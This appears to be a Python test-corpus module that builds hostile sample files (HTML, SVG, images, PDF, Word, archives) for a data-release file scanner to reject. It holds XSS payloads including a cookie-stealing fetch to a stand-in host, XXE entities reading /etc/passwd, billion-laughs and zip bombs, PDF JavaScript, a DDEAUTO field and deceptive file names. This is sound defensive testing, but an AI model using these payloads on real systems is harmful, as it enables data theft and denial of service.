"""Files made to hide something, to run at whoever opens them, or to bring the checks down."""

from __future__ import annotations

import gzip
import io
import json
import lzma
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterator
from functools import partial
from typing import Any, Final

from hub_config.airlock.checks.inside.reasons import Reason
from hub_config.governance.releases.findings import Rule
from tests.corpus.cases import Case, aside, unsafe
from tests.corpus.tables import PSEUDONYMS, SAFE, as_csv, as_docx, as_html, as_xlsx, page_of, text_pdf

_ONE: Final = PSEUDONYMS[23]
_MOTIFS: Final = SAFE["motifs"]


def cases() -> tuple[Case, ...]:
    parts = (_archives, _pages, _drawings, _images, _pdf, _word, _bombs, _names)
    return tuple(case for part in parts for case in part())


def _archives() -> Iterator[Case]:
    inside = as_csv(_MOTIFS)
    made: dict[str, Callable[[], bytes]] = {
        "zip": lambda: zipped({"motifs.csv": inside}),
        "csv.gz": lambda: gzip.compress(inside, mtime=0),
        "xz": lambda: lzma.compress(inside),
        "tar": partial(_tar, inside),
        "7z": lambda: b"7z\xbc\xaf\x27\x1c" + bytes(60),
        "rar": lambda: b"Rar!\x1a\x07\x01\x00" + bytes(60),
        "pkl": lambda: pickle.dumps({"coef": [1, 2]}),
        "joblib": lambda: pickle.dumps([0.1] * 40),
        "doc": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
        "odt": lambda: zipped(
            {"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<x/>"}
        ),
        "pptx": lambda: zipped({"ppt/presentation.xml": b"<x/>"}),
        "pt": lambda: zipped({"archive/data.pkl": pickle.dumps([1])}),
    }
    for form, make in made.items():
        yield unsafe(f"paquet.{form}", make, f"a {form} file", Rule.REFUSED_KIND)
    objects = (
        b"\x93NUMPY\x01\x00v\x00{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(128) + b"\n"
    )
    yield aside("objets.npy", partial(bytes, objects + bytes(8)), "an array of objects", Reason.UNKNOWN_KIND)
    yield aside(
        "modele.onnx", partial(bytes, b"\x08\x07\x12\x00\x00" * 9), "an ONNX model", Reason.UNKNOWN_KIND
    )
    yield aside("modele.h5", lambda: b"\x89HDF\r\n\x1a\n" + bytes(90), "an HDF5 file", Reason.UNKNOWN_KIND)


def zipped(members: dict[str, bytes], *, comment: bytes = b"") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0)), content, zipfile.ZIP_DEFLATED)
        archive.comment = comment
    return out.getvalue()


def _tar(content: bytes) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        member = tarfile.TarInfo("motifs.csv")
        member.size = len(content)
        archive.addfile(member, io.BytesIO(content))
    return out.getvalue()


# --- pages and drawings ------------------------------------------------------------------------------------


def _pages() -> Iterator[Case]:
    bodies = {
        "script": ("<script>fetch('//x.example/'+document.cookie)</script>", Rule.ACTIVE_CONTENT),
        "onerror": ("<img src=x onerror=alert(1)>", Rule.ACTIVE_CONTENT),
        "svg-onload": ("<svg/onload=alert(1)>", Rule.ACTIVE_CONTENT),
        "javascript": ("<a href='java&#10;script:alert(1)'>x</a>", Rule.ACTIVE_CONTENT),
        "iframe": ("<iframe srcdoc='<script>1</script>'></iframe>", Rule.ACTIVE_CONTENT),
        "formulaire": ("<form action=https://x.example><input name=a value=3></form>", Rule.ACTIVE_CONTENT),
        "refresh": ("<meta http-equiv=refresh content='0;url=//x.example'>", Rule.ACTIVE_CONTENT),
        "objet": ("<object data=a.swf></object>", Rule.ACTIVE_CONTENT),
        "image-distante": ("<img src='https://x.example/p?d=12'>", Rule.EXTERNAL_LINK),
        "style-distant": ("<p style='background:url(https://x.example)'>x</p>", Rule.EXTERNAL_LINK),
        "import": ("<style>@import '//x.example/a.css';</style>", Rule.EXTERNAL_LINK),
        "donnees": ("<a href='data:text/csv;base64,YSxi'>x</a>", Rule.EMBEDDED_OBJECT),
        "modele": (f"<template><p>{_ONE}</p></template>", Rule.HIDDEN_CONTENT),
        "blanc": (f"<p style='color:#fff'>{_ONE}</p>", Rule.HIDDEN_CONTENT),
        "minuscule": (f"<p style='font-size:0'>{_ONE}</p>", Rule.HIDDEN_CONTENT),
        "contenu-css": ("<style>p::after{content:'3 patients'}</style><p></p>", Rule.HIDDEN_CONTENT),
        "inacheve": (f"<p>ok</p><!-- {_ONE}", Rule.HIDDEN_CONTENT),
        "malforme": ("<table><tr><td><ScRiPt/x>1</sCrIpT", Rule.ACTIVE_CONTENT),
    }
    for name, (body, rule) in bodies.items():
        yield unsafe(f"page-{name}.html", partial(page_of, body), f"a page: {name}", rule)


_SVG: Final = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">{}</svg>'


def _drawings() -> Iterator[Case]:
    bodies = {
        "script": ("<script>1</script>", Rule.ACTIVE_CONTENT),
        "onclick": ("<rect onclick='x()'/>", Rule.ACTIVE_CONTENT),
        "animation": ("<a><animate attributeName='href' to='javascript:1'/></a>", Rule.ACTIVE_CONTENT),
        "foreign": ("<foreignObject><p>3</p></foreignObject>", Rule.EMBEDDED_OBJECT),
        "image": ("<image xlink:href='https://x.example/a.png'/>", Rule.EXTERNAL_LINK),
        "style": ("<style>@import url(https://x.example/a)</style>", Rule.EXTERNAL_LINK),
        "donnees": ("<image href='data:text/html;base64,PGI+'/>", Rule.EMBEDDED_OBJECT),
        "cache": (f"<text display='none'>{_ONE}</text>", Rule.HIDDEN_CONTENT),
        "transparent": (f"<text style='opacity:0'>{_ONE}</text>", Rule.HIDDEN_CONTENT),
        "attribut": (f"<g data-ids='{_ONE}'/>", Rule.HIDDEN_CONTENT),
        "metadonnees": (f"<metadata>{_ONE}</metadata>", Rule.PSEUDONYM),
        "effectif": ("<text>n = 4 patients</text>", Rule.SMALL_COUNT),
    }
    for name, (body, rule) in bodies.items():
        yield unsafe(f"dessin-{name}.svg", partial(_drawn, body), f"a drawing: {name}", rule)
    xxe = '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + _SVG.format("<text>&x;</text>")
    yield aside("xxe.svg", partial(bytes, xxe.encode()), "an external entity", Reason.BOMB)
    laughs = "".join(f'<!ENTITY l{n + 1} "{f"&l{n};" * 10}">' for n in range(9))
    bomb = f'<!DOCTYPE svg [<!ENTITY l0 "ha">{laughs}]>' + _SVG.format("<text>&l9;</text>")
    yield aside("rires.svg", partial(bytes, bomb.encode()), "entities that multiply", Reason.BOMB)
    many = lambda: _drawn("<g/>" * 300_000)  # noqa: E731
    yield aside("elements.svg", many, "300,000 elements", Reason.TOO_MUCH)


def _drawn(body: str) -> bytes:
    return _SVG.format(body).encode()


# --- images ------------------------------------------------------------------------------------------------


def _png(mode: str = "RGB", **options: Any) -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new(mode, (16, 16)).save(out, "PNG", **options)
    return out.getvalue()


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def _with_chunk(kind: bytes, body: bytes) -> bytes:
    whole = _png()
    at = whole.index(b"IDAT") - 4
    return whole[:at] + _chunk(kind, body) + whole[at:]


def _images() -> Iterator[Case]:
    text = b"Comment\x00" + str(_ONE).encode()
    packed = b"Comment\x00\x00" + zlib.compress(str(_ONE).encode())
    yield unsafe(
        "texte.png", partial(_with_chunk, b"tEXt", text), "a text", Rule.DOCUMENT_METADATA, Rule.PSEUDONYM
    )
    yield unsafe("texte-comprime.png", partial(_with_chunk, b"zTXt", packed), "a packed text", Rule.PSEUDONYM)
    yield unsafe("bloc.png", partial(_with_chunk, b"paTi", b"1,2,3"), "an unknown chunk", Rule.HIDDEN_CONTENT)
    yield unsafe("anime.png", _animated, "further images", Rule.HIDDEN_CONTENT)
    yield unsafe("suite.png", lambda: _png() + b"3 patients", "bytes after the end", Rule.TRAILING_BYTES)
    yield unsafe("apres-pixels.png", _extra_pixels, "bytes after the pixels", Rule.HIDDEN_CONTENT)
    yield unsafe("transparent.png", _under_transparency, "a picture under transparency", Rule.HIDDEN_CONTENT)
    yield unsafe("exif.jpg", partial(_jpeg, exif=True), "a text in EXIF", Rule.PSEUDONYM)
    yield unsafe("commentaire.jpg", partial(_jpeg, comment=str(_ONE).encode()), "a comment", Rule.PSEUDONYM)
    yield unsafe("suite.jpg", lambda: _jpeg() + b"secret", "bytes after the end", Rule.TRAILING_BYTES)
    yield unsafe("vignette.jpg", _with_thumbnail, "another image within", Rule.EMBEDDED_OBJECT)
    yield aside(
        "zip.png", lambda: _png() + zipped({"a.csv": b"1"}), "an image and an archive", Reason.POLYGLOT
    )
    yield aside("60000.png", partial(_claimed, 60_000), "3,600 million pixels", Reason.BOMB)
    yield aside("coupe.png", lambda: _png()[:40], "half an image", Reason.DAMAGED)
    yield aside(
        "page.gif",
        lambda: b"GIF89a/*" + bytes(9) + b"*/=1;alert(1)",
        "a GIF that is a program",
        Reason.UNKNOWN_KIND,
    )


def _animated() -> bytes:
    from PIL import Image

    out = io.BytesIO()
    frames = [Image.new("RGB", (8, 8), colour) for colour in ("red", "blue")]
    frames[0].save(out, "PNG", save_all=True, append_images=frames[1:])
    return out.getvalue()


def _extra_pixels() -> bytes:
    whole = _png()
    at = whole.index(b"IDAT")
    (length,) = struct.unpack_from(">I", whole, at - 4)
    pixels = zlib.decompress(whole[at + 4 : at + 4 + length]) + b"3 patients"
    return whole[: at - 4] + _chunk(b"IDAT", zlib.compress(pixels)) + whole[at + 8 + length :]


def _under_transparency() -> bytes:
    from PIL import Image

    image = Image.new("RGBA", (16, 16), (255, 255, 255, 0))
    for at in range(16):
        image.putpixel((at, at), (at * 9, 0, 255 - at, 0))
    out = io.BytesIO()
    image.save(out, "PNG")
    return out.getvalue()


def _jpeg(*, exif: bool = False, comment: bytes = b"") -> bytes:
    from PIL import Image

    image = Image.new("RGB", (16, 16), "red")
    told = image.getexif()
    if exif:
        told[0x010E] = str(_ONE)
    out = io.BytesIO()
    image.save(out, "JPEG", exif=told, comment=comment)
    return out.getvalue()


def _with_thumbnail() -> bytes:
    whole = _jpeg()
    inner = b"Exif\x00\x00" + whole
    return whole[:2] + b"\xff\xe1" + struct.pack(">H", len(inner) + 2) + inner + whole[2:]


def _claimed(side: int) -> bytes:
    whole = _png()
    header = struct.pack(">II", side, side) + whole[24:29]
    return whole[:8] + _chunk(b"IHDR", header) + whole[33:]


# --- PDF ---------------------------------------------------------------------------------------------------


def _pdf() -> Iterator[Case]:
    base = partial(text_pdf, ["Résultats"])
    yield unsafe("programme.pdf", partial(_changed, _program), "a program", Rule.ACTIVE_CONTENT)
    attached = lambda: _changed(lambda w: w.add_attachment("a.csv", b"1,2"))  # noqa: E731
    yield unsafe("joint.pdf", attached, "an attached file", Rule.EMBEDDED_OBJECT)
    yield unsafe("note.pdf", partial(_changed, _annotate), "a note", Rule.COMMENT, Rule.PSEUDONYM)
    yield unsafe("formulaire.pdf", partial(_changed, _form), "a form", Rule.ACTIVE_CONTENT)
    yield unsafe("calques.pdf", partial(_changed, _layers), "hidden layers", Rule.HIDDEN_CONTENT)
    yield unsafe("invisible.pdf", _invisible, "text that isn't drawn", Rule.HIDDEN_CONTENT, Rule.PSEUDONYM)
    yield unsafe("suite.pdf", lambda: base() + b"\n1,2,3", "bytes after the end", Rule.TRAILING_BYTES)
    yield unsafe(
        "version.pdf", lambda: base() + b"\n" + base()[-300:], "earlier versions", Rule.HIDDEN_CONTENT
    )
    yield aside("chiffre.pdf", lambda: _changed(lambda w: w.encrypt("x")), "encrypted", Reason.ENCRYPTED)
    yield aside("zip.pdf", lambda: base() + zipped({"a": b"1"}), "a PDF and an archive", Reason.POLYGLOT)
    yield aside("coupe.pdf", lambda: base()[:200], "half a PDF", Reason.DAMAGED)


def _changed(change: Callable[[Any], object]) -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter()
    writer.append(PdfReader(io.BytesIO(text_pdf(["Résultats"]))))
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _program(writer: Any) -> None:
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    action = {
        NameObject("/S"): NameObject("/JavaScript"),
        NameObject("/JS"): TextStringObject("app.alert(1)"),
    }
    writer.root_object[NameObject("/OpenAction")] = DictionaryObject(action)


def _annotate(writer: Any) -> None:
    from pypdf.annotations import FreeText

    writer.add_annotation(0, FreeText(text=f"dossier {_ONE}", rect=(10, 10, 90, 40)))


def _form(writer: Any) -> None:
    from pypdf.generic import ArrayObject, DictionaryObject, NameObject

    writer.root_object[NameObject("/AcroForm")] = DictionaryObject({NameObject("/Fields"): ArrayObject()})


def _layers(writer: Any) -> None:
    from pypdf.generic import ArrayObject, DictionaryObject, NameObject

    layers = DictionaryObject({NameObject("/OCGs"): ArrayObject()})
    writer.root_object[NameObject("/OCProperties")] = layers


def _invisible() -> bytes:
    """A page whose text is written with rendering mode 3."""
    stream = f"BT /F1 12 Tf 3 Tr 10 50 Td ({_ONE}) Tj ET".encode()
    objects = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 100]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>",
        b"<</Length %d>>stream\n%s\nendstream" % (len(stream), stream),
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    ]
    body, places = b"%PDF-1.4\n", []
    for number, each in enumerate(objects, 1):
        places.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, each)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    end = b"xref\n0 6\n0000000000 65535 f \n%strailer<</Size 6/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF"
    return body + end % (table, len(body))


# --- Word --------------------------------------------------------------------------------------------------


def _word() -> Iterator[Case]:
    body = "</w:p>"
    run = "<w:r>{}<w:t>" + str(_ONE) + "</w:t></w:r></w:p>"
    changed = {
        "cache": (run.format("<w:rPr><w:vanish/></w:rPr>"), Rule.HIDDEN_CONTENT),
        "blanc": (run.format('<w:rPr><w:color w:val="FFFFFF"/></w:rPr>'), Rule.HIDDEN_CONTENT),
        "minuscule": (run.format('<w:rPr><w:sz w:val="1"/></w:rPr>'), Rule.HIDDEN_CONTENT),
        "supprime": (
            f'<w:del w:id="1" w:author="A"><w:r><w:delText>{_ONE}</w:delText></w:r></w:del></w:p>',
            Rule.TRACKED_CHANGES,
        ),
        "champ": ("<w:r><w:instrText>DDEAUTO c:\\x</w:instrText></w:r></w:p>", Rule.ACTIVE_CONTENT),
    }
    for name, (text, rule) in changed.items():
        yield unsafe(f"{name}.docx", partial(_edited, body, text), f"Word: {name}", rule)
    parts = {
        "styles": ("word/styles2.xml", f"<x a='{_ONE}'/>".encode(), Rule.PSEUDONYM),
        "commentaires": ("word/comments.xml", _comments(), Rule.COMMENT),
        "macro": ("word/vbaProject.bin", b"\xd0\xcf", Rule.MACRO),
        "classeur": ("word/embeddings/a.xlsx", as_xlsx(_MOTIFS), Rule.EMBEDDED_OBJECT),
        "donnees": ("customXml/item9.xml", b"<x>3</x>", Rule.HIDDEN_CONTENT),
        "inconnu": ("word/rows.csv", b"1,2", Rule.HIDDEN_CONTENT),
        "externe": ("word/_rels/header9.xml.rels", _outside(), Rule.EXTERNAL_LINK),
        "auteur": ("docProps/custom.xml", f"<p><v>{_ONE}</v></p>".encode(), Rule.PSEUDONYM),
    }
    for name, (part, content, rule) in parts.items():
        yield unsafe(f"{name}.docx", partial(_with_part, part, content), f"Word: {name}", rule)
    yield unsafe("suite.docx", lambda: as_docx(_MOTIFS) + b"1,2", "bytes after the end", Rule.TRAILING_BYTES)
    xxe = b'<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>'
    yield aside("xxe.docx", partial(_with_part, "word/footnotes.xml", xxe), "an external entity", Reason.BOMB)
    yield aside("double.docx", _twice, "a part that stands twice", Reason.POLYGLOT, Reason.DAMAGED)


def _comments() -> bytes:
    w = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    said = "<w:comment><w:p><w:r><w:t>3 patients</w:t></w:r></w:p></w:comment>"
    return f'<w:comments xmlns:w="{w}">{said}</w:comments>'.encode()


def _outside() -> bytes:
    return b'<Relationships><Relationship TargetMode="External" Type="x/attachedTemplate" Target="https://x.example/t"/></Relationships>'


def _members(whole: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(whole)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _edited(old: str, new: str) -> bytes:
    members = _members(as_docx(_MOTIFS))
    text = members["word/document.xml"].decode()
    return zipped({**members, "word/document.xml": text.replace(old, new, 1).encode()})


def _with_part(name: str, content: bytes) -> bytes:
    return zipped({**_members(as_docx(_MOTIFS)), name: content})


def _twice() -> bytes:
    import warnings

    out = io.BytesIO(as_docx(_MOTIFS))
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(out, "a") as archive:
            archive.writestr("word/document.xml", "<x/>")
    return out.getvalue()


# --- bombs and names ---------------------------------------------------------------------------------------


def _bombs() -> Iterator[Case]:
    yield aside(
        "bombe.docx", partial(_with_part, "word/media/a.png", bytes(140_000_000)), "a zip bomb", Reason.BOMB
    )
    deep = b"[" * 100_000 + b"]" * 100_000
    yield aside("profond.json", partial(bytes, deep), "100,000 brackets", Reason.TOO_MUCH)
    yield aside(
        "profond.ipynb",
        lambda: b'{"nbformat": 4, "cells": ' + deep + b"}",
        "a deep notebook",
        Reason.TOO_MUCH,
    )
    tags = lambda: page_of("<b>" * 400_000)  # noqa: E731
    yield aside("balises.html", tags, "400,000 tags", Reason.TOO_MUCH)
    wide = ",".join(f"c{n}" for n in range(1_000_000)).encode() + b"\n"
    yield aside("large.csv", partial(bytes, wide), "a million columns", Reason.TOO_MUCH)
    long = "n,patients\n" + "".join(f"{n},{n + 100}\n" for n in range(20_000))
    yield unsafe("long.csv", partial(bytes, long.encode()), "20,000 rows", Rule.TOO_MANY_ROWS)
    cells = json.dumps({"nbformat": 4, "metadata": {}, "cells": [{}] * 5_000}).encode()
    yield aside("cellules.ipynb", partial(bytes, cells), "5,000 cells", Reason.TOO_MUCH)
    yield aside(
        "bruit.html",
        lambda: b"\xff\xfe\x00\xd8" * 50,
        "no text in any encoding",
        Reason.ENCODING,
        Reason.DAMAGED,
    )


def _names() -> Iterator[Case]:
    table = as_csv(_MOTIFS)
    page = as_html(_MOTIFS)
    yield unsafe("motifs.pdf.csv", partial(bytes, table), "two extensions", Rule.DECEPTIVE_NAME)
    yield unsafe("motifs\u202ecsv.txt", partial(bytes, table), "a turned name", Rule.DECEPTIVE_NAME)
    yield unsafe("mоtifs.csv", partial(bytes, table), "a Cyrillic о", Rule.DECEPTIVE_NAME)
    yield unsafe("../motifs.csv", partial(bytes, table), "a path", Rule.DECEPTIVE_NAME)
    yield unsafe("figure.png", partial(bytes, page), "a page called an image", Rule.NAME_DISAGREES)
    yield unsafe("motifs.csv.png", _png, "an image with two extensions", Rule.DECEPTIVE_NAME)
